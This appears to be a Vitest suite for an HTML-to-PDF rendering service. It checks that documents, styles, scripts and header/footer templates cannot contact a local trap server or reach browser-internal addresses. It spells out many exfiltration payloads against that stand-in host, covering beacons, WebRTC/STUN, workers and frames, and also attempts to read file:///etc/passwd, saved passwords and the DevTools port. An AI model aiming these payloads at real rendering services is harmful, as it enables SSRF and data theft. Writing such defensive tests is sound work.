/**
 * Ways out of a page beside those of `leaving.test.ts`: what is written in markup and styles, what scripts
 * can reach, addresses of the browser itself, and the templates of header and footer. The trap hears connections and
 * datagrams too.
 */
import { beforeAll, describe, expect, inject, it } from 'vitest'
import { trapped } from '../support/outgoing'
import { applySchema } from '../support/schema'
import { post, render, richAccount } from '../support/service'

const { site, trap } = inject('origins')
const { host } = new URL(trap)

beforeAll(() => applySchema())

/** What a document waits for, so that its ways out have time. `wait_for` would have it guarded as one with scripts. */
const slow = () => `<img src="${site}/red.png?after=250&unique=${crypto.randomUUID()}">`

/** The document is printed with its text, on one page, and the trap heard nothing. */
async function stays(html: string) {
  const { text, pages } = await render(html + slow())
  expect(pages).toHaveLength(1)
  expect(text).toContain('stays')
  expect(await trapped()).toEqual([])
  return text
}

const markup: [string, string][] = [
  [
    'pictures',
    `<img src="${trap}/img"><img srcset="${trap}/srcset 2x"><picture><source srcset="${trap}/source"><img src=x></picture>
     <input type="image" src="${trap}/input"><body background="${trap}/body"><table background="${trap}/table"></table>
     <img src="//${host}/scheme-less"><img src="${trap}/a" attributionsrc="${trap}/attribution">`,
  ],
  [
    'drawings',
    `<svg><image href="${trap}/image"/><image xlink:href="${trap}/xlink"/><use href="${trap}/use#a"/>
     <feImage href="${trap}/fe"/><script href="${trap}/script"></script><a href="${trap}/a"><text>x</text></a>
     <foreignObject><img src="${trap}/foreign"></foreignObject></svg>
     <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${trap}/inner'/%3E%3C/svg%3E">`,
  ],
  [
    'sound and film',
    `<video src="${trap}/video" poster="${trap}/poster" autoplay preload="auto"></video>
     <audio src="${trap}/audio" autoplay preload="auto"><track src="${trap}/track" default></audio>`,
  ],
  [
    'plug-ins',
    `<object data="${trap}/object"></object><embed src="${trap}/embed"><applet code="${trap}/applet"></applet>
     <object data="data:text/html,<img src=${trap}/data-object>"></object>`,
  ],
  [
    'frames',
    `<iframe src="${trap}/iframe"></iframe><iframe srcdoc="<img src='${trap}/srcdoc'>"></iframe>
     <iframe src="data:text/html,<img src=${trap}/data-frame>"></iframe><portal src="${trap}/portal"></portal>
     <fencedframe src="${trap}/fenced"></fencedframe><iframe src="javascript:location='${trap}/js-frame'"></iframe>`,
  ],
  [
    'hints',
    [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'preload',
      'prerender',
      'modulepreload',
      'icon',
      'manifest',
      'next',
    ]
      .map((rel) => `<link rel="${rel}" href="${trap}/${rel}" as="image">`)
      .join(''),
  ],
  [
    'style sheets',
    `<link rel="stylesheet" href="${trap}/link"><link rel="alternate stylesheet" title="a" href="${trap}/alternate">
     <style>@import "${trap}/import"; @import url(${trap}/import-url) layer(a);
     @font-face { font-family: F; src: url(${trap}/font) }
     p { font-family: F; background: url(${trap}/background); cursor: url(${trap}/cursor), auto; mask: url(${trap}/mask);
       border-image: url(${trap}/border) 1; list-style: url(${trap}/list); shape-outside: url(${trap}/shape); float: left;
       filter: url(${trap}/filter#a); clip-path: url(${trap}/clip#a) }
     p::after { content: url(${trap}/content) } @media print { b { background: image-set("${trap}/set" 1x) } }</style><b>b</b>`,
  ],
  [
    'a base address of its own',
    `<base href="${trap}/"><img src="based"><link rel="stylesheet" href="based.css"><script src="based.js"></script>`,
  ],
  [
    'refreshes',
    `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><meta http-equiv="Refresh" content="0;${trap}/second">`,
  ],
  [
    'reports of what its policy forbids',
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${trap}/report">
     <meta http-equiv="Report-To" content='{"endpoints":[{"url":"${trap}/report-to"}]}'><img src="${trap}/reported">`,
  ],
  [
    'a peer connection in a handler behind a slash',
    `<svg/onload="const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] });
     peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))"></svg>
     <img src="${site}/red.png?after=1200">`,
  ],
]

/** What a script does to send datagrams, with the constructor of `realm`: to a server it names, and to a peer. */
const peer = (
  realm: string,
) => `const peer = new ${realm}.RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] })
  peer.createDataChannel('x'); const other = new ${realm}.RTCPeerConnection()
  await peer.setLocalDescription(); await other.setRemoteDescription(peer.localDescription)
  await other.setLocalDescription(); await peer.setRemoteDescription(other.localDescription)
  await peer.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ${host.replace(':', ' ')} typ host', sdpMid: '0' })`

const scripts: [string, string][] = [
  [
    'XMLHttpRequest',
    `const xhr = new XMLHttpRequest(); xhr.open('POST', '${trap}/xhr', false); xhr.send('stolen')`,
  ],
  [
    'a request that outlives it',
    `fetch('${trap}/keepalive', { keepalive: true, method: 'POST', body: 'x' })`,
  ],
  ['a request without an answer', `fetch('${trap}/no-cors', { mode: 'no-cors' })`],
  ['a request for later', `fetchLater('${trap}/later', { activateAfter: 0 })`],
  ['a picture', `new Image().src = '${trap}/image?' + document.body.innerHTML`],
  ['a written script', `document.write('<script src="${trap}/written"></' + 'script>')`],
  ['a service worker', `navigator.serviceWorker.register('${trap}/worker.js')`],
  ['a shared worker', `new SharedWorker('${trap}/shared.js')`],
  ['a worker of its own text', `new Worker('data:text/javascript,fetch("${trap}/data-worker")')`],
  ['a worklet', `CSS.paintWorklet.addModule('${trap}/worklet.js')`],
  ['an audio worklet', `new AudioContext().audioWorklet.addModule('${trap}/audio.js')`],
  ['WebTransport', `new WebTransport('https://${host}/transport')`],
  ['a stream of messages', `new WebSocketStream('ws://${host}/stream')`],
  ['a font', `new FontFace('x', 'url(${trap}/face)').load()`],
  ['a window without a name', `open('${trap}/noopener', '_blank', 'noopener,noreferrer')`],
  [
    'a download',
    `const a = document.createElement('a'); a.href = '${trap}/file'; a.download = 'x'; a.click()`,
  ],
  [
    'a button',
    `const f = document.forms[0]; f.elements[0].formAction = '${trap}/button'; f.elements[0].click()`,
  ],
  ['a request to submit', `document.forms[0].action = '${trap}/submit'; document.forms[0].requestSubmit()`],
  ['navigation.navigate', `navigation.navigate('${trap}/navigation')`],
  ['a document of its own text', `location = 'data:text/html,<img src=${trap}/data>'`],
  ['the frame above', `parent.location = '${trap}/parent'; top.location = '${trap}/top'`],
  [
    'a payment',
    `new PaymentRequest([{ supportedMethods: '${trap}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()`,
  ],
  ['a protocol handler', `navigator.registerProtocolHandler('web+x', '${trap}/%s')`],
  [
    'an error report',
    `window.onerror = null; new ReportingObserver(() => {}, { buffered: true }).observe(); fetch('${trap}/reported')`,
  ],
  [
    'a sandbox it makes itself',
    `const frame = document.createElement('iframe'); frame.sandbox = 'allow-scripts allow-same-origin allow-top-navigation';
     frame.srcdoc = '<script>new RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }] }).createDataChannel("x");' +
     'fetch("${trap}/frame")</' + 'script>'; document.body.append(frame)`,
  ],
  [
    'what a fresh frame still has',
    `const frame = document.createElement('iframe'); document.body.append(frame); ${peer('frame.contentWindow')}`,
  ],
  [
    'what a frame of written text has',
    `const frame = document.createElement('iframe'); frame.srcdoc = '<p>x'; document.body.append(frame)
     await new Promise((resolve) => { frame.onload = resolve }); ${peer('frame.contentWindow')}`,
  ],
  [
    'what a frame has whose document was opened anew',
    `const frame = document.createElement('iframe'); document.body.append(frame)
     frame.contentDocument.open(); frame.contentDocument.write('<p>x'); frame.contentDocument.close()
     ${peer('frame.contentWindow')}`,
  ],
  [
    'what its own window has when its document is opened anew',
    `const run = async () => { ${peer('window')} }; document.open(); document.write('<p>stays'); document.close(); await run()`,
  ],
  [
    'what a window without an address has',
    `const child = open('about:blank') ?? open('', 'x') ?? open(''); ${peer('child')}`,
  ],
  [
    'a document that is made by XSLT',
    `const xml = (text) => new DOMParser().parseFromString(text, 'application/xml'); const xslt = new XSLTProcessor()
     xslt.importStylesheet(xml('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">' +
       '<html><body><img src="${trap}/xslt"/><script>new RTCPeerConnection</script></body></html></x:template></x:stylesheet>'.replace('</script>', '<' + '/script>')))
     const made = xslt.transformToDocument(xml('<a/>')); ${peer('(made.defaultView ?? window)')}`,
  ],
]

/** Addresses that a browser opens for its user, not for a page. */
const browsersOwn = [
  'file:///etc/passwd',
  'file://localhost/etc/passwd',
  'view-source:file:///etc/passwd',
  'chrome://version',
  'chrome://settings/passwords',
  'chrome-extension://x/x',
  'devtools://devtools/bundled/inspector.html',
  'http://127.0.0.1:9222/json/version',
  'filesystem:http://document.invalid/temporary/x',
  'ftp://127.0.0.1/',
  'mailto:a@example.com',
  'intent://x#Intent;end',
  'ms-settings:',
]

describe('a document stands as it was, and reaches no server, by', () => {
  it.concurrent.each(markup)('%s in its markup', async (_, body) => {
    await stays(`<p>stays</p>${body}`)
  })

  it.concurrent.each(scripts)('%s of its scripts', async (_, script) => {
    await stays(
      `<p>stays</p><form method="post" action="x"><button>x</button></form><script>
       try { const done = (async () => { ${script} })(); done.catch(() => {}) } catch {}</script>`,
    )
  })

  it('what its css option names', async () => {
    const html = '<p>stays</p>'
    const css = `@import "${trap}/css"; p { background: url(${trap}/css-background) } </style><img src="${trap}/ended">`
    const { text } = await render(html + slow(), { css })
    expect(text).toContain('stays')
    expect(await trapped()).toEqual([])
  })

  /** Each puts a script where it was once not looked for; all print what the script finds. */
  const hidden = [
    '<meta a"><title>">x</title><body>y',
    "<meta a'><style>'>x</style><body>y",
    '<meta a"><!--">--><p>y',
    '',
  ]
  const script = `<script>
    const ways = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport', 'WebSocket', 'EventSource']
    document.write('<p>has:' + ways.filter((name) => name in window) + ';')
    try { new WebSocket('ws://${host}/socket') } catch {};
    (async () => { ${peer('window')} })().catch(() => {})
  </script>`
  it.concurrent.each(
    hidden.flatMap((html) => [
      ['its css', html, {}, `</title></style>--><body>z${script}`],
      ['its css, at an address', html, { base_url: site }, `</title></style>--><body>z${script}`],
      ['its text', html + script, {}, undefined],
      ['its text, at an address', html + script, { base_url: site }, undefined],
    ]) as [string, string, object, string | undefined][],
  )('a peer connection in %s, in %j', async (_, html, options, css) => {
    const { text } = await render(html + slow(), { css, options })
    expect(text.replace(/has:;/, '')).not.toContain('has:')
    expect(await trapped()).toEqual([])
  })

  it('a tag of nine megabytes, which is printed too', async () => {
    const { pages } = await render(`<html ${'a'.repeat(9_000_000)}><p>stays`)
    expect(pages[0]?.text).toContain('stays')
  })

  // These are documents of the same sandbox that nobody asks us for.
  it.concurrent.each([
    ['an empty document', '"about:blank"'],
    [
      'a document in a blob',
      `URL.createObjectURL(new Blob(['<img src=${trap}/blob><script>fetch("${trap}/blob")</script>'], { type: 'text/html' }))`,
    ],
  ])('%s, for which it is refused', async (_, target) => {
    const { status, detail } = await visit(target)
    expect([status, detail]).toEqual([422, expect.stringContaining('replaced it with another document')])
  })

  it.concurrent.each([
    ['a page of the browser', '"about:version"'],
    ['a page that the browser does not show', '"chrome-untrusted://x"'],
    ['what a script returns', `'javascript:"<img src=${trap}/js>"'`],
  ])('%s, which is no error of ours either', async (_, target) => {
    expect([200, 422]).toContain((await visit(target)).status)
  })

  /** What becomes of a document whose script goes elsewhere. */
  async function visit(target: string) {
    const script = `try { location = ${target} } catch {}`
    const html = `<p>stays</p><script>${script.replaceAll('</', '<\\/')}</script>`
    const response = await post(await richAccount(), {
      html,
      goCreditMode: false,
      options: { wait_for: { ms: 150 } },
    })
    const text = await response.text()
    expect(await trapped()).toEqual([])
    return { status: response.status, detail: response.status === 200 ? '' : JSON.parse(text).detail }
  }

  it.concurrent.each<[string, (url: string) => string]>([
    ['a visit', (url) => `try { location = ${url} } catch {}`],
    ['a window', (url) => `try { open(${url}) } catch {}`],
    [
      'a frame',
      (url) =>
        `document.body.append(Object.assign(document.createElement('iframe'), { src: ${url}, width: 1, height: 1 }))`,
    ],
    [
      'a request',
      (url) => `fetch(${url}).then((a) => a.text()).then((t) => document.body.append('READ ' + t), () => {})`,
    ],
  ])('%s to addresses of the browser itself', async (_, way) => {
    const images = browsersOwn.map(
      (address) => `<img src="${address}"><link rel="stylesheet" href="${address}">`,
    )
    const tries = browsersOwn.map((address) => way(JSON.stringify(address)))
    const text = await stays(`<p>stays</p>${images.join('')}<script>${tries.join('\n')}</script>`)
    expect(text).not.toMatch(/READ|root:|webSocketDebuggerUrl/)
  })
})

describe('a header or footer reaches no server, by', () => {
  // Without scripts, which are never run there; an isolated page has no template at all.
  it.concurrent.each(markup)('%s', async (_, body) => {
    const part = `<b>in the header</b>${body.replace(/<body[^>]*>/, '')}`
    const { text, pages } = await render('<p>stays</p>', {
      options: { header_html: part, footer_html: part },
    })
    expect(pages).toHaveLength(1)
    expect(text).toContain('stays')
    expect(await trapped()).toEqual([])
  })

  it('scripts and handlers', async () => {
    const part = `<b>head</b><script>fetch('${trap}/script')</script><img src=x onerror="fetch('${trap}/error')">
      <svg/onload="new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }).createDataChannel('x')"></svg>
      <a href="javascript:fetch('${trap}/link')">x</a><body onload="location='${trap}/body'">
      <form action="${trap}/form"><input autofocus onfocus="form.submit()"></form><style onload="fetch('${trap}/style')"></style>`
    const { text } = await render('<p>stays</p>', { options: { header_html: part, header_last_html: part } })
    expect(text).toContain('head')
    expect(await trapped()).toEqual([])
  })
})
